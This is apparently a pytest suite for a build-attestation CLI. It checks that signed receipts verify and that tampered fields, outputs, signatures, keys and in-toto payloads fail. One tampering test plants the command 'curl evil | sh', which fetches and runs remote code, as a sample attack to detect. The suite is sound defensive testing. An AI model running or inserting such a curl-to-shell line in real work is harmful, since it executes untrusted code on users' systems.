"""Signed receipts end to end: a real project, the real CLI, real files on disk."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest
import yaml

from tests.attestation.signing import fresh_copy, signed_template
from tests.support import attest, write_pipeline

PIPELINE = """
version: "0.1"
name: demo
steps:
  build:
    run: mkdir -p dist && echo hello > dist/app.txt && echo data > dist/lib.bin
    inputs: [src.txt]
    outputs: [dist/]
  security-scan:
    run: echo scanning
    needs: [build]
"""


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return signed_template(tmp_path_factory, PIPELINE, "--output", "receipt.json",
                           files={"src.txt": "source\n"})


@pytest.fixture
def signed(template: Path, tmp_path: Path) -> Path:
    """A fresh copy of a project that has run once with --sign (keys, receipts, outputs)."""
    return fresh_copy(template, tmp_path)


def receipt_of(project: Path) -> Path:
    found = sorted((project / ".attest" / "receipts").glob("receipt_*.yaml"))
    assert len(found) == 1, found
    return found[0]


def verify_json(project: Path, *args: str, env: dict[str, str] | None = None
                ) -> tuple[int, dict]:
    r = attest("verify", *args, "--format", "json", cwd=project, env=env)
    assert r.returncode in (0, 1), r.stderr
    return r.returncode, json.loads(r.stdout)


def checks(doc: dict, index: int = 0) -> dict[str, list[dict]]:
    out: dict[str, list[dict]] = {}
    for c in doc["receipts"][index]["checks"]:
        out.setdefault(c["check"], []).append(c)
    return out


def other_key(tmp: Path) -> tuple[Path, Path]:
    r = attest("keys", "generate", "--output", str(tmp / "other"), cwd=tmp)
    assert r.returncode == 0, r.stderr
    return tmp / "other" / "private.key", tmp / "other" / "public.key"


def resign(path: Path, private: Path) -> None:
    """Sign an edited receipt with another key, as an attacker with their own key would."""
    from attest_cli.attestation.keys import load_private_key
    from attest_cli.attestation.receipt import render, sign

    doc = yaml.safe_load(path.read_text())
    path.write_text(render(sign(doc, load_private_key(private)), "yaml"))


# -- signing -----------------------------------------------------------------------------


def test_signed_run_writes_a_complete_receipt_and_a_private_key_0600(signed: Path) -> None:
    doc = yaml.safe_load(receipt_of(signed).read_text())
    assert doc["schema"] == "attest.receipt/v2"
    assert doc["pipeline"] == "demo"
    assert doc["pipeline_hash"].startswith("blake3:")
    assert doc["signature"].startswith("ed25519:") and len(doc["signature"]) == 8 + 128
    assert doc["signer_public_key"].startswith("ed25519:")
    assert set(doc["environment"]) >= {"os", "python", "hostname"}
    build = doc["steps"][0]
    assert build["name"] == "build" and build["status"] == "success"
    assert build["exit_code"] == 0
    assert [o["path"] for o in build["outputs"]] == ["dist/app.txt", "dist/lib.bin"]
    from attest_cli.digest import file_digest

    assert build["outputs"][0]["hash"] == file_digest(signed / "dist" / "app.txt")
    assert build["inputs"] == [{"path": "src.txt", "hash": file_digest(signed / "src.txt")}]
    private = signed / ".attest" / "keys" / "private.key"
    assert stat.S_IMODE(private.stat().st_mode) == 0o600
    assert (signed / ".attest" / "keys" / "public.key").exists()


def test_signed_receipt_verifies_with_every_check_in_the_documented_order(signed: Path) -> None:
    r = attest("verify", str(receipt_of(signed)), cwd=signed)
    assert r.returncode == 0, r.stdout + r.stderr
    lines = [line.strip() for line in r.stdout.splitlines() if line.startswith("  ")]
    names = [line.split("]", 1)[1].split(":", 1)[0].strip() for line in lines]
    assert names == ["format", "signature", "signer", "expiry", "pipeline", "files"]
    assert all(line.startswith("[OK]") for line in lines)


def test_yaml_and_json_receipts_of_one_run_verify_identically(signed: Path) -> None:
    y = yaml.safe_load(receipt_of(signed).read_text())
    j = json.loads((signed / "receipt.json").read_text())
    assert y == j
    code_y, doc_y = verify_json(signed, str(receipt_of(signed)))
    code_j, doc_j = verify_json(signed, "receipt.json")
    assert code_y == code_j == 0
    assert doc_y["receipts"][0]["checks"] == doc_j["receipts"][0]["checks"]
    # a YAML receipt converted to JSON by another tool still verifies
    (signed / "converted.json").write_text(json.dumps(y, indent=4, sort_keys=True))
    assert verify_json(signed, "converted.json")[0] == 0


def test_run_verify_passes_and_the_report_names_the_receipt(signed: Path) -> None:
    r = attest("run", "--sign", "--verify", "--report", "report.json", cwd=signed)
    assert r.returncode == 0, r.stderr
    report = json.loads((signed / "report.json").read_text())
    assert report["receipt"].startswith(".attest/receipts/receipt_")
    assert (signed / report["receipt"]).exists()


# -- tampering ---------------------------------------------------------------------------


def test_a_changed_receipt_field_is_an_invalid_signature(signed: Path) -> None:
    path = signed / "receipt.json"
    doc = json.loads(path.read_text())
    doc["steps"][1]["command"] = "echo scanning && curl evil | sh"
    path.write_text(json.dumps(doc))
    code, out = verify_json(signed, "receipt.json")
    assert code == 1
    c = checks(out)
    assert c["signature"][0]["status"] == "fail"
    assert c["signature"][0]["reason"] == "invalid_signature"
    assert out["receipts"][0]["reasons"] == ["invalid_signature"]


def test_a_changed_output_byte_is_a_hash_mismatch_naming_the_file(signed: Path) -> None:
    data = bytearray((signed / "dist" / "lib.bin").read_bytes())
    data[0] ^= 1
    (signed / "dist" / "lib.bin").write_bytes(bytes(data))
    r = attest("verify", str(receipt_of(signed)), cwd=signed)
    assert r.returncode == 1
    fails = [line for line in r.stdout.splitlines() if "[FAIL]" in line]
    assert len(fails) == 1 and "files: dist/lib.bin: content differs" in fails[0]
    assert "hash_mismatch" in r.stderr


def test_a_deleted_output_is_reported_missing(signed: Path) -> None:
    (signed / "dist" / "app.txt").unlink()
    code, out = verify_json(signed, "receipt.json")
    assert code == 1
    assert "dist/app.txt: missing" in checks(out)["files"][0]["detail"]


def test_a_changed_signature_byte_is_an_invalid_signature(signed: Path) -> None:
    path = receipt_of(signed)
    doc = yaml.safe_load(path.read_text())
    sig = doc["signature"]
    flipped = "1" if sig[-1] != "1" else "2"
    doc["signature"] = sig[:-1] + flipped
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    code, out = verify_json(signed, str(path))
    assert code == 1 and out["receipts"][0]["reasons"] == ["invalid_signature"]


def test_a_swapped_signer_key_fails_signature_and_trust(signed: Path, tmp_path: Path) -> None:
    _, pub = other_key(tmp_path)
    from attest_cli.attestation.keys import load_public_key, public_text

    path = signed / "receipt.json"
    doc = json.loads(path.read_text())
    doc["signer_public_key"] = public_text(load_public_key(pub))
    path.write_text(json.dumps(doc))
    code, out = verify_json(signed, "receipt.json")
    assert code == 1
    assert out["receipts"][0]["reasons"] == ["invalid_signature", "untrusted_signer"]


def test_a_receipt_resigned_by_another_key_is_untrusted(signed: Path, tmp_path: Path) -> None:
    private, pub = other_key(tmp_path)
    path = receipt_of(signed)
    resign(path, private)
    code, out = verify_json(signed, str(path))
    assert code == 1
    c = checks(out)
    assert c["signature"][0]["status"] == "ok"
    assert c["signer"][0]["reason"] == "untrusted_signer"
    # naming the key makes it acceptable
    assert verify_json(signed, str(path), "--public-key", str(pub))[0] == 0
    assert verify_json(signed, str(path), "--trusted-keys",
                       f"{signed / '.attest/keys/public.key'},{pub}")[0] == 0
    # and so does trusting it in the store
    t = attest("keys", "trust", str(pub), cwd=signed)
    assert t.returncode == 0 and "trusted" in t.stdout
    assert verify_json(signed, str(path))[0] == 0
    assert verify_json(signed, str(path), "--trusted-only")[0] == 0


def test_the_wrong_public_key_is_rejected(signed: Path, tmp_path: Path) -> None:
    _, pub = other_key(tmp_path)
    code, out = verify_json(signed, "receipt.json", "--public-key", str(pub))
    assert code == 1
    assert out["receipts"][0]["reasons"] == ["invalid_signature", "untrusted_signer"]


def test_trusted_only_rejects_the_projects_own_untrusted_key(signed: Path) -> None:
    code, out = verify_json(signed, "receipt.json", "--trusted-only")
    assert code == 1 and out["receipts"][0]["reasons"] == ["untrusted_signer"]
    assert attest("keys", "trust", ".attest/keys/public.key", cwd=signed).returncode == 0
    assert verify_json(signed, "receipt.json", "--trusted-only")[0] == 0


def test_an_expired_receipt_fails_with_reason_expired(signed: Path) -> None:
    r = attest("run", "--sign", "--expires-in", "1ms", "--output", "short.yaml", cwd=signed)
    assert r.returncode == 0, r.stderr
    doc = yaml.safe_load((signed / "short.yaml").read_text())
    assert doc["expires_at"] > doc["timestamp"]
    code, out = verify_json(signed, "short.yaml")
    assert code == 1
    assert checks(out)["expiry"][0]["reason"] == "expired"
    assert out["receipts"][0]["reasons"] == ["expired"]


def test_expiry_from_configuration(signed: Path) -> None:
    r = attest("run", "--sign", "--output", "long.json", cwd=signed,
               env={"ATTEST_SIGNING__EXPIRES_IN": "30d"})
    assert r.returncode == 0, r.stderr
    doc = json.loads((signed / "long.json").read_text())
    from datetime import datetime

    lifetime = (datetime.fromisoformat(doc["expires_at"])
                - datetime.fromisoformat(doc["timestamp"]))
    assert lifetime.total_seconds() == 30 * 86400
    code, out = verify_json(signed, "long.json")
    assert code == 0 and "valid until" in checks(out)["expiry"][0]["detail"]


def test_a_changed_pipeline_is_a_hash_mismatch_unless_skipped(signed: Path) -> None:
    text = (signed / "attest.yaml").read_text().replace("echo scanning", "echo scanning!")
    (signed / "attest.yaml").write_text(text)
    code, out = verify_json(signed, "receipt.json")
    assert code == 1 and checks(out)["pipeline"][0]["reason"] == "hash_mismatch"
    code, out = verify_json(signed, "receipt.json", "--no-pipeline")
    assert code == 0 and checks(out)["pipeline"][0]["status"] == "skip"


def test_reformatting_the_pipeline_keeps_its_hash(signed: Path) -> None:
    text = "# a comment\n" + (signed / "attest.yaml").read_text().replace("  ", "    ")
    (signed / "attest.yaml").write_text(text)
    assert verify_json(signed, "receipt.json")[0] == 0


def test_no_signatures_skips_signature_checks_only(signed: Path, tmp_path: Path) -> None:
    private, _ = other_key(tmp_path)
    path = receipt_of(signed)
    resign(path, private)
    code, out = verify_json(signed, str(path), "--no-signatures")
    assert code == 0
    c = checks(out)
    assert c["signature"][0]["status"] == c["signer"][0]["status"] == "skip"


def test_several_receipts_and_globs_report_every_failure(signed: Path) -> None:
    (signed / "dist" / "app.txt").write_text("changed\n")
    r = attest("verify", ".attest/receipts/*.yaml", "receipt.json", cwd=signed)
    assert r.returncode == 1
    assert r.stdout.count("[FAIL] files: dist/app.txt") == 2
    assert "2 of 2 receipt(s)" in r.stdout


def test_signing_a_cached_run_records_cached_steps_with_their_files(signed: Path) -> None:
    r = attest("run", "--sign", "--output", "again.json", cwd=signed)
    assert r.returncode == 0, r.stderr
    doc = json.loads((signed / "again.json").read_text())
    build = doc["steps"][0]
    assert build["status"] in ("cached", "success")
    assert [o["path"] for o in build["outputs"]] == ["dist/app.txt", "dist/lib.bin"]
    assert verify_json(signed, "again.json")[0] == 0


# -- in-toto -----------------------------------------------------------------------------


def test_in_toto_export_verifies_and_a_payload_type_swap_fails(signed: Path) -> None:
    import base64
    import hashlib

    r = attest("receipt", "export", str(receipt_of(signed)), "--format", "in-toto",
               "--output", "att.intoto.json", cwd=signed)
    assert r.returncode == 0, r.stderr
    env = json.loads((signed / "att.intoto.json").read_text())
    assert env["payloadType"] == "application/vnd.in-toto+json"
    statement = json.loads(base64.b64decode(env["payload"]))
    assert statement["_type"] == "https://in-toto.io/Statement/v1"
    subjects = {s["name"]: s["digest"] for s in statement["subject"]}
    assert subjects["dist/app.txt"]["sha256"] == hashlib.sha256(
        (signed / "dist" / "app.txt").read_bytes()).hexdigest()
    code, out = verify_json(signed, "att.intoto.json")
    assert code == 0 and out["receipts"][0]["form"] == "dsse"

    env["payloadType"] = "application/json"
    (signed / "swapped.json").write_text(json.dumps(env))
    code, out = verify_json(signed, "swapped.json")
    assert code == 1
    assert checks(out)["signature"][0]["reason"] == "invalid_signature"


def test_in_toto_payload_edit_fails_the_signature(signed: Path) -> None:
    import base64

    r = attest("receipt", "export", "receipt.json", cwd=signed)
    assert r.returncode == 0, r.stderr
    env = json.loads(r.stdout)
    statement = json.loads(base64.b64decode(env["payload"]))
    statement["predicate"]["status"] = "failure"
    env["payload"] = base64.b64encode(json.dumps(statement).encode()).decode()
    (signed / "edited.json").write_text(json.dumps(env))
    code, out = verify_json(signed, "edited.json")
    assert code == 1 and out["receipts"][0]["reasons"] == ["invalid_signature"]


# -- keys --------------------------------------------------------------------------------


def test_keys_generate_list_export_and_never_print_the_private_key(project: Path) -> None:
    r = attest("keys", "generate", cwd=project)
    assert r.returncode == 0, r.stderr
    private = project / ".attest" / "keys" / "private.key"
    assert stat.S_IMODE(private.stat().st_mode) == 0o600
    secret_lines = private.read_text().splitlines()[1:-1]
    again = attest("keys", "generate", cwd=project)
    assert again.returncode == 2 and "--force" in again.stderr
    outputs = [r, again]
    listed = attest("keys", "list", cwd=project)
    exported = attest("keys", "export", cwd=project)
    hexed = attest("keys", "export", "--format", "hex", cwd=project)
    outputs += [listed, exported, hexed]
    assert listed.returncode == exported.returncode == hexed.returncode == 0
    assert "-----BEGIN PUBLIC KEY-----" in exported.stdout
    assert hexed.stdout.strip() in listed.stdout and hexed.stdout.startswith("ed25519:")
    assert attest("keys", "list", "--trusted", cwd=project).stdout.startswith("no trusted")
    as_json = json.loads(attest("keys", "list", "--format", "json", cwd=project).stdout)
    assert [k["origin"] for k in as_json] == ["own"]
    assert as_json[0]["public_key"] == hexed.stdout.strip()
    forced = attest("keys", "generate", "--force", cwd=project)
    assert forced.returncode == 0
    outputs.append(forced)
    for out in outputs:
        for line in secret_lines:
            assert line not in out.stdout and line not in out.stderr


def test_an_exposed_private_key_gets_a_warning(signed: Path) -> None:
    os.chmod(signed / ".attest" / "keys" / "private.key", 0o644)
    r = attest("run", "--sign", cwd=signed)
    assert r.returncode == 0
    assert "private key" in r.stderr and "chmod 600" in r.stderr


def test_signing_key_from_the_environment(signed: Path, tmp_path: Path) -> None:
    private, pub = other_key(tmp_path)
    r = attest("run", "--sign", "--output", "env.json", cwd=signed,
               env={"ATTEST_SIGNING_KEY": str(private)})
    assert r.returncode == 0, r.stderr
    assert verify_json(signed, "env.json", "--public-key", str(pub))[0] == 0
    missing = attest("run", "--sign", cwd=signed,
                     env={"ATTEST_SIGNING_KEY": str(tmp_path / "nope.key")})
    assert missing.returncode == 2 and "nope.key" in missing.stderr
    assert "Traceback" not in missing.stderr


def test_secret_values_never_reach_the_receipt(project: Path) -> None:
    write_pipeline(project, """
        version: "0.1"
        name: secretive
        steps:
          publish:
            run: echo token=hunter2-very-secret
            secrets: [TOKEN]
        """)
    r = attest("run", "--sign", "--output", "r.json", cwd=project,
               env={"TOKEN": "hunter2-very-secret"})
    assert r.returncode == 0, r.stderr
    text = (project / "r.json").read_text()
    assert "hunter2-very-secret" not in text and "token=***" in text
    assert "hunter2-very-secret" not in receipt_of(project).read_text()


def test_symlink_outputs_are_recorded_by_target_and_verify_after_a_cache_hit(
        project: Path) -> None:
    write_pipeline(project, """
        version: "0.1"
        name: links
        steps:
          build:
            run: mkdir -p out && echo data > out/real.txt && ln -sf real.txt out/link.txt
            outputs: [out/]
        """)
    for name in ("first.json", "second.json"):
        r = attest("run", "--sign", "--output", name, cwd=project)
        assert r.returncode == 0, r.stderr
        assert verify_json(project, name)[0] == 0, name
    first = json.loads((project / "first.json").read_text())["steps"][0]["outputs"]
    second = json.loads((project / "second.json").read_text())["steps"][0]["outputs"]
    assert first == second
    from attest_cli.digest import bytes_digest

    assert {"path": "out/link.txt", "hash": bytes_digest(b"real.txt")} in first
    (project / "out" / "link.txt").unlink()
    (project / "out" / "link.txt").symlink_to("/etc/hostname")
    code, out = verify_json(project, "second.json")
    assert code == 1 and "out/link.txt: content differs" in checks(out)["files"][0]["detail"]
